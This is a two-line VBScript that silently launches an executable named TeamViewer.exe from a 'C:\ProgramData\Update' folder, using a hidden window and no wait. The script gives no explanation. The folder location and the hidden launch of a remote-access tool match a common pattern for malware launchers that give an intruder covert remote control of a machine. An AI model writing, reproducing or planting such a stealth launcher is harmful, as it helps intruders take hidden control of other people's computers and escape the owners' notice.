Set sh = CreateObject("WScript.Shell")
sh.Run """C:\ProgramData\Update\TeamViewer.exe""", 0, False
